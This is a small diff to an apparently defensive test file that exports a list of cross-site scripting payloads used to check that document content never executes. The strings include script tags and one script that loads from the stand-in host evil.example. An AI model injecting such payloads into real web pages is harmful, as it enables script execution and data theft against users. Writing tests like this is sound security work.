@@ -2,7 +2,7 @@ import { type HostileDocument, ofEdit, opened, refused } from "../document";
 import { inEveryText } from "../every-field";
 
 /** Each would set window.__ran, ask evil.example for something or leave the page, if anything ran it. */
-const payloads = [
+export const payloads = [
   "<script>window.__ran=1</script>",
   "</script><script>window.__ran=1</script>",
   "<ScRiPt src=//evil.example/x.js></sCrIpT>",
